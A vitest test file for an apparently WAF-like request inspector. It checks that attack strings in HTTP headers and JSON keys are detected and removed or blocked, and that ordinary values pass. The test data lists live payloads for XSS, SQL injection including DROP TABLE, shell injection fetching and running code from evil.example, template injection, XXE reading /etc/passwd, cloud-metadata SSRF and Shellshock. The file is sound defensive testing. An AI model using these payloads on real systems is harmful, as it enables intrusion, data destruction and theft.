import { readFile } from "node:fs/promises";
import { afterAll, describe, expect, it } from "vitest";
import { createInspector } from "../../src/index.ts";

const inspector = await createInspector();
afterAll(async () => await inspector.close());

async function inspect(name: string, value: string) {
  return await inspector.inspect({ headers: [[name, value]], contentType: "application/json", body: "{}" });
}

const ATTACKS = [
  ["<script>alert(1)</script>", "xss"],
  ["<img src=x onerror=alert(1)>", "xss"],
  ["1 UNION SELECT password FROM users--", "sqli"],
  ["' or 1=1 --", "sqli"],
  ["'; DROP TABLE users; --", "sqli"],
  ["; cat /etc/passwd", "rce"],
  ["$(curl http://evil.example/x|sh)", "rce"],
  ["`id`", "rce"],
  ["../../../../etc/passwd", "lfi"],
  ["{{7*7}}", "ssti"],
  ["{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "ssti"],
  ["${7*7}", "ssti"],
  ["<?php phpinfo(); ?>", "php"],
  ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "xxe"],
  ["*)(uid=*))(|(uid=*", "ldap"],
  ["http://169.254.169.254/latest/meta-data/", "ssrf"],
  ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "deserialization"],
  ["javascript:alert(1)", "xss"],
  ["%0d%0aSet-Cookie: a=b", "crlf"],
  ['O:8:"stdClass":1:{s:1:"a";i:1;}', "deserialization"],
  ["() { :;}; /bin/bash -c 'id'", "rce"],
] as const;

describe("the own pack, in header fields", () => {
  it.each(ATTACKS)("finds %j to be %s, and takes it out", async (value, category) => {
    const { verdict, findings, headers } = await inspect("X-Note", value);
    expect(findings.map((finding) => [finding.category, finding.location.part])).toContainEqual([
      category,
      "header:x-note",
    ]);
    if (category === "xxe") expect(verdict).toBe("blocked");
    else expect(headers).toContainEqual(["X-Note", "[removed by lazaret]"]);
  });

  it("lets pass what vendors send every day", async () => {
    const lines = await readFile(new URL("usual-header-fields.txt", import.meta.url), "utf8");
    for (const line of lines.trimEnd().split("\n")) {
      const [, name = "", value = ""] = /^([^:]+): (.*)$/.exec(line) ?? [];
      const { findings } = await inspect(name, value);
      expect({ line, rules: findings.filter(({ stage }) => stage === "rules") }).toEqual({ line, rules: [] });
    }
  });
});

describe("the own pack, in keys", () => {
  it.each(ATTACKS)("finds %j to be %s, and takes the key with its value", async (key, category) => {
    const body = JSON.stringify({ [key]: 1, b: 2 });
    const { verdict, findings, body: safe } = await inspector.inspect({ contentType: "application/json", body });
    expect(findings.map((finding) => finding.category)).toContain(category);
    if (category === "xxe") expect(verdict).toBe("blocked");
    else expect(Buffer.from(safe).toString()).toBe('{"b":2}');
  });

  it("lets pass what is usual in them", async () => {
    const keys = [
      "/users/{id}/files",
      "GET /v1/items?page=2",
      "https://schema.example/name",
      "a.b[0]",
      "$ref",

      "x:y",
      "C++ & C#",
    ];
    const body = JSON.stringify(Object.fromEntries(keys.map((key) => [key, 1])));
    expect(await inspector.inspect({ contentType: "application/json", body })).toMatchObject({ findings: [] });
  });
});
